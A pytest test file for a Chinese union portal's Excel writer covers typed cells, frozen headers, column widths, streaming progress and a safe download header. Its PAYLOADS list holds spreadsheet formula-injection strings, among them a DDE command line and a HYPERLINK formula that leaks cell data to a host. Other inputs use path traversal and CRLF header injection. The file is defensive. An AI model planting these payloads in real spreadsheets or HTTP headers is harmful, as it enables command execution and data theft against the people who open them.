"""The shared Excel writer (unionportal.core.excel): typed cells, a frozen header, widths, formula
neutralisation (security.md F1) and progress; and the safe download header."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from unionportal.core.excel import Column, content_disposition, write_xlsx

PAYLOADS = [
    '=HYPERLINK("http://x/?"&B1,"点击")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
]


def written(sheets, **kwargs) -> bytes:
    out = io.BytesIO()
    write_xlsx(sheets, out, **kwargs)
    return out.getvalue()


def sheet1(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return z.read("xl/worksheets/sheet1.xml").decode()


def test_cells_are_typed_and_the_header_is_frozen():
    rows = [("张三", date(2024, 3, 1), Decimal("4567.8"), 42, datetime(2024, 3, 1, 9, 30))]
    content = written([("会员名册", ["姓名", "入会日期", "工资基数", "数", "时间"], iter(rows))])
    ws = load_workbook(io.BytesIO(content)).worksheets[0]
    assert ws.title == "会员名册"
    assert ws.freeze_panes == "A2"
    assert [c.value for c in ws[1]] == ["姓名", "入会日期", "工资基数", "数", "时间"]
    assert ws["A1"].font.b
    name, joined, wage, count, at = ws[2]
    assert joined.value == datetime(2024, 3, 1) and joined.number_format == "yyyy-mm-dd"
    assert wage.value == pytest.approx(4567.8) and wage.number_format == "#,##0.00"
    assert count.value == 42 and count.data_type == "n"
    assert at.number_format == "yyyy-mm-dd hh:mm"


def test_columns_get_widths_from_the_header_and_the_first_rows():
    rows = [("一个很长很长很长的工会名称", "x")]
    content = written([("s", [Column("名称"), Column("备注", width=30)], rows)])
    ws = load_workbook(io.BytesIO(content)).worksheets[0]
    assert ws.column_dimensions["A"].width >= 26  # 13 wide characters
    assert ws.column_dimensions["B"].width == 30


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_like_text_is_written_as_text(payload):
    content = written([("s", ["姓名"], [(payload,)])])
    xml = sheet1(content)
    assert "<f>" not in xml and "<f " not in xml
    assert 't="inlineStr"' in xml
    cell = load_workbook(io.BytesIO(content)).worksheets[0]["A2"]
    # XML turns a carriage return into a line feed; the text is otherwise kept as it was.
    assert cell.data_type == "s" and cell.value == payload.replace("\r", "\n")
    assert cell.quotePrefix  # Excel keeps it text even when someone edits the cell


def test_rows_are_streamed_from_a_generator_with_progress():
    seen = []

    def rows():
        for n in range(25):
            yield (f"会员{n}", n)

    count = write_xlsx(
        [("s", ["姓名", "序号"], rows())], io.BytesIO(), progress=seen.append, progress_every=10
    )
    assert count == 25
    assert seen == [10, 20, 25]


def test_several_sheets_and_awkward_values():
    aware = datetime(2024, 3, 1, 1, 0, tzinfo=ZoneInfo("UTC"))
    content = written(
        [
            ("第一[页]", ["a"], [("控制\x01字符",), (None,), (True,)]),
            ("第二", ["时间"], [(aware,)]),
        ]
    )
    wb = load_workbook(io.BytesIO(content))
    assert wb.sheetnames == ["第一_页_", "第二"]
    assert wb.worksheets[0]["A2"].value == "控制字符"
    assert wb.worksheets[0]["A3"].value is None
    assert wb.worksheets[1]["A2"].value == datetime(2024, 3, 1, 9, 0)  # Asia/Shanghai


@pytest.mark.parametrize(
    "name",
    ["会员名册-甲公司-20261124.xlsx", "../../x.xlsx", 'a"b;c\r\nSet-Cookie: x=1.xlsx', ""],
)
def test_the_download_header_is_safe_for_any_name(name):
    header = content_disposition(name)
    assert "\r" not in header and "\n" not in header
    plain = re.search(r'filename="([^"]*)"', header).group(1)
    assert plain and "/" not in plain and ".." not in plain and plain.isascii()
    assert "filename*=UTF-8''" in header
    assert header.count('"') == 2
